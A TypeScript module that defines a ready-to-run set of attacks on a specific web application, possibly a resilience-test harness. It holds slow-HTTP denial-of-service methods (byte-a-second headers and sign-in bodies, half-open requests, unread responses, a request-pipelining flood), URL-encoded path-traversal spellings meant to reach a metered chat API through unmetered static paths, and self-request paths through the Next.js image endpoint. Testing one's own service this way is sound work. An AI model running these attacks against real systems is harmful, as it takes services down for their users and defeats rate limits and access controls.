import { setTimeout as pause } from "node:timers/promises";
import { head, type RawSockets } from "./raw";

export interface Attack {
  readonly what: string;
  begin(sockets: RawSockets, signal: AbortSignal): void;
}

/** One byte at a time, so that no idle connection is found. */
function drip(sockets: RawSockets, { count, sent, byte, signal }: Drip): void {
  const open = sockets.open(count, sent);
  void (async () => {
    while (!signal.aborted) {
      await pause(1_000, undefined, { signal }).catch(() => undefined);
      for (const socket of open) if (!socket.destroyed) socket.write(byte);
    }
  })();
}

interface Drip {
  readonly count: number;
  readonly sent: string;
  readonly byte: string;
  readonly signal: AbortSignal;
}

const FILE = "/ocr/7.0.0/eng.traineddata.gz";

/** Ways to keep a server busy with nothing. */
export const ATTACKS: readonly Attack[] = [
  {
    what: "24 that send one byte of a sign-in",
    begin: (sockets) => void sockets.open(24, `${head("POST /auth/v1/token", "Content-Length: 100")}{`),
  },
  {
    what: "300 whose sign-in comes a byte a second",
    begin: (sockets, signal) => {
      const sent = head("POST /auth/v1/token", "Content-Length: 1000");
      drip(sockets, { count: 300, sent, byte: "x", signal });
    },
  },
  {
    what: "30 that never read a file, again and again",
    begin: (sockets) => sockets.keep(30, head(`GET ${FILE}`)),
  },
  {
    what: "200 that never read a page, again and again",
    begin: (sockets) => sockets.keep(200, head("GET /", "Accept: text/html")),
  },
  {
    what: "510 half-open messages",
    begin: (sockets) => void sockets.open(510, head("POST /api/chat", "Content-Length: 100")),
  },
  {
    what: "300 whose head comes a byte a second",
    begin: (sockets, signal) =>
      drip(sockets, { count: 300, sent: "GET / HTTP/1.1\r\nX-Slow: ", byte: "x", signal }),
  },
  {
    what: "50 that write 500 requests ahead",
    begin: (sockets) => sockets.keep(50, head("GET /api/trpc/account.me").repeat(500)),
  },
];

/** Spellings that lead from what is free to what is counted. */
export const SPELLINGS = ["..", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "%252e%252e", "..%2f..%2f.."].flatMap(
  (dots) =>
    ["/_next/static", "/api/health/live", "//_next/static"].map((free) => `${free}/${dots}/${dots}/api/chat`),
);

/** Addresses that the framework would answer by asking itself for another one, past everything that stands before it. */
export const INNER_DOORS = ["/", "/practice/books", "/api/trpc/account.me", "/favicon.ico"].map(
  (inner) => `/_next/image?url=${encodeURIComponent(inner)}&w=64&q=75`,
);
